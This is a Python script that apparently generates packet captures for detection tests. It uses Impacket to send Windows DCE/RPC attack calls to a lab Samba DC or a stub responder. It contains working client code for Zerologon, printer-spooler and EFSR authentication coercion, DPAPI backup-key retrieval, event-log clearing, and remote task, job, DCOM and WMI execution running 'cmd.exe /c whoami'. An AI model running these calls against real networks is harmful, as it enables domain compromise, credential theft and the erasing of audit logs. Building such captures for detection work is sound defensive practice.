#!/usr/bin/python3
# DCE/RPC calls of lateral movement and credential theft, made with
# Impacket for the captures of tests/pcaps (make_rpc_attack_captures.sh):
# against the Samba AD DC where it serves the interface, else against
# rpc_responder.py (no authentication, every request faulted).
#
# usage: rpc_attack_client.py CALL HOST [ARGS...]
#   zerologon HOST DCNAME COUNT      NetrServerReqChallenge +
#                                    NetrServerAuthenticate3, zero credential
#   printerbug HOST DOMAIN USER PASS LISTENER
#   backupkey HOST DOMAIN USER PASS  BackuprKey (packet privacy)
#   eventlog HOST PORT (ElfrOpenELW + ElfrClearELFW) | even6 HOST PORT
#   atsvc HOST PORT | tsch HOST PORT | efsr HOST PORT LISTENER
#   dcom HOST PORT CLASS (mmc20 | wmi) | wmiexec HOST PORT | seclogon HOST PORT
#   raw HOST PORT UUID OPNUM         a request of 64 zero bytes (the call
#                                    alone is the indicator)
#   member HOST NAME PASS            Netlogon secure channel of computer
#                                    account NAME$ with its real credential
import struct
import sys

from impacket.dcerpc.v5 import (atsvc, bkrp, dcomrt, epm, even, nrpc, rprn,
                                 transport, tsch)
from impacket.dcerpc.v5.dtypes import NULL
from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY, DCERPCException
from impacket.uuid import string_to_bin, uuidtup_to_bin

IID_IWBEMSERVICES = uuidtup_to_bin(("9556dc99-828c-11cf-a37e-00aa003240c7", "0.0"))
EVEN6 = uuidtup_to_bin(("f6beaff7-1e19-4fbb-9f8f-b89e2018337c", "1.0"))
EFSR = uuidtup_to_bin(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0"))
SECLOGON = uuidtup_to_bin(("12b81e99-f207-4a4c-85d3-77b42f76fd14", "1.0"))
CLASSES = {
    "mmc20": ("49B2791A-B1AE-4C90-9B8E-E860BA07F889",
              uuidtup_to_bin(("00020400-0000-0000-C000-000000000046", "0.0"))),
    "wmi": ("8BC3F05E-D86B-11D0-A075-00C04FB68820",
            uuidtup_to_bin(("F309AD18-D86A-11d0-A075-00C04FB68820", "0.0"))),
}


def tcp(host, port, uuid):
    dce = transport.DCERPCTransportFactory(
        "ncacn_ip_tcp:%s[%s]" % (host, port)).get_dce_rpc()
    dce.connect()
    dce.bind(uuid)
    return dce


def pipe(host, name, domain, user, password, uuid, privacy=False):
    t = transport.DCERPCTransportFactory(r"ncacn_np:%s[\pipe\%s]" % (host, name))
    t.set_credentials(user, password, domain)
    dce = t.get_dce_rpc()
    if privacy:
        dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    dce.connect()
    dce.bind(uuid)
    return dce


def wstring(text):
    """NDR conformant varying UTF-16 string with its NUL, padded to 4."""
    data = (text + "\x00").encode("utf-16le")
    n = len(text) + 1
    out = struct.pack("<III", n, 0, n) + data
    return out + b"\x00" * (-len(out) % 4)


def refused(what, call):
    try:
        call()
    except (DCERPCException, Exception) as e:  # faults are expected
        print("%s: %s" % (what, str(e)[:100]))


def zerologon(host, dcname, count):
    binding = epm.hept_map(host, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
    dce = transport.DCERPCTransportFactory(binding).get_dce_rpc()
    dce.connect()
    dce.bind(nrpc.MSRPC_UUID_NRPC)
    zero = b"\x00" * 8
    for _ in range(int(count)):
        nrpc.hNetrServerReqChallenge(dce, dcname + "\x00", dcname + "\x00", zero)
        refused("NetrServerAuthenticate3", lambda: nrpc.hNetrServerAuthenticate3(
            dce, "\\\\" + dcname + "\x00", dcname + "$\x00",
            nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
            dcname + "\x00", zero, 0x212FFFFF))


def printerbug(host, domain, user, password, listener):
    dce = pipe(host, "spoolss", domain, user, password, rprn.MSRPC_UUID_RPRN)
    handle = rprn.hRpcOpenPrinter(dce, "\\\\%s\x00" % host)["pHandle"]
    refused("RpcRemoteFindFirstPrinterChangeNotificationEx",
            lambda: rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
                dce, handle, rprn.PRINTER_CHANGE_ADD_JOB,
                pszLocalMachine="\\\\%s\x00" % listener))


def eventlog(host, port):
    dce = tcp(host, port, even.MSRPC_UUID_EVEN)
    refused("ElfrOpenELW", lambda: even.hElfrOpenELW(dce, "Security\x00", NULL))
    refused("ElfrClearELFW", lambda: even.hElfrClearELFW(dce, b"\x01" * 20))


def backupkey(host, domain, user, password):
    dce = pipe(host, "protected_storage", domain, user, password,
               bkrp.MSRPC_UUID_BKRP, privacy=True)
    req = bkrp.BackuprKey()
    req["pguidActionAgent"] = bkrp.BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID
    req["pDataIn"] = NULL
    req["cbDataIn"] = 0
    req["dwParam"] = 2
    refused("BackuprKey", lambda: dce.request(req))


def atsvc_job(host, port):
    dce = tcp(host, port, atsvc.MSRPC_UUID_ATSVC)
    req = atsvc.NetrJobAdd()
    req["ServerName"] = NULL
    req["pAtInfo"]["JobTime"] = 0
    req["pAtInfo"]["DaysOfMonth"] = 0
    req["pAtInfo"]["DaysOfWeek"] = 0
    req["pAtInfo"]["Flags"] = 0
    req["pAtInfo"]["Command"] = "cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt\x00"
    refused("NetrJobAdd", lambda: dce.request(req))


TASK_XML = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Actions Context="Author">
    <Exec>
      <Command>cmd.exe</Command>
      <Arguments>/C whoami &gt; %windir%\\Temp\\t.tmp</Arguments>
    </Exec>
  </Actions>
</Task>
"""


def tsch_task(host, port):
    dce = tcp(host, port, tsch.MSRPC_UUID_TSCHS)
    refused("SchRpcRegisterTask", lambda: tsch.hSchRpcRegisterTask(
        dce, "\\smbgwtask\x00", TASK_XML + "\x00", tsch.TASK_CREATE, NULL,
        tsch.TASK_LOGON_NONE))


def even6_clear(host, port):
    dce = tcp(host, port, EVEN6)
    stub = b"\x00" * 20 + wstring("Security") + struct.pack("<I", 0)
    refused("EvtRpcClearLog", lambda: (dce.call(6, stub), dce.recv()))


def efsr(host, port, listener):
    dce = tcp(host, port, EFSR)
    stub = wstring("\\\\%s\\share\\file.txt" % listener) + struct.pack("<I", 0)
    refused("EfsRpcOpenFileRaw", lambda: (dce.call(0, stub), dce.recv()))


def dcom(host, port, which):
    clsid, iid = CLASSES[which]
    dce = transport.DCERPCTransportFactory(
        "ncacn_ip_tcp:%s[%s]" % (host, port)).get_dce_rpc()
    dce.connect()
    refused("RemoteCreateInstance", lambda: dcomrt.IRemoteSCMActivator(
        dce).RemoteCreateInstance(string_to_bin(clsid), iid))


def wmiexec(host, port):
    dce = tcp(host, port, IID_IWBEMSERVICES)
    orpcthis = struct.pack("<HHII", 5, 7, 0, 0) + b"\x11" * 16 + struct.pack("<I", 0)
    stub = orpcthis + wstring("Win32_Process") + wstring("Create") + struct.pack("<II", 0, 0)
    refused("ExecMethod", lambda: (dce.call(24, stub, uuid=b"\x22" * 16), dce.recv()))


def seclogon(host, port):
    dce = tcp(host, port, SECLOGON)
    refused("SeclCreateProcessWithLogonW",
            lambda: (dce.call(0, b"\x00" * 64), dce.recv()))


def raw(host, port, uuid, opnum):
    dce = tcp(host, port, uuidtup_to_bin((uuid, "1.0")))
    refused("opnum %s" % opnum, lambda: (dce.call(int(opnum), b"\x00" * 64),
                                         dce.recv()))


def member(host, name, secret):
    from impacket.ntlm import compute_nthash
    binding = epm.hept_map(host, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
    nl = transport.DCERPCTransportFactory(binding).get_dce_rpc()
    nl.connect()
    nl.bind(nrpc.MSRPC_UUID_NRPC)
    challenge = b"12345678"
    server_challenge = nrpc.hNetrServerReqChallenge(
        nl, NULL, name + "\x00", challenge)["ServerChallenge"]
    # AES session key and credential: Samba refuses weaker ones.
    key = nrpc.ComputeSessionKeyAES("", challenge, server_challenge,
                                    compute_nthash(secret))
    credential = nrpc.ComputeNetlogonCredentialAES(challenge, key)
    nrpc.hNetrServerAuthenticate3(
        nl, NULL, name + "$\x00",
        nrpc.NETLOGON_SECURE_CHANNEL_TYPE.WorkstationSecureChannel,
        name + "\x00", credential, 0x612FFFFF)
    print("secure channel of %s$ set up" % name)


def main():
    calls = {
        "zerologon": zerologon, "printerbug": printerbug,
        "eventlog": eventlog, "backupkey": backupkey, "atsvc": atsvc_job,
        "tsch": tsch_task, "even6": even6_clear, "efsr": efsr, "dcom": dcom,
        "wmiexec": wmiexec, "seclogon": seclogon, "raw": raw,
        "member": member,
    }
    if len(sys.argv) < 3 or sys.argv[1] not in calls:
        sys.exit(__doc__ or "usage: rpc_attack_client.py CALL HOST [ARGS...]")
    calls[sys.argv[1]](*sys.argv[2:])


if __name__ == "__main__":
    main()
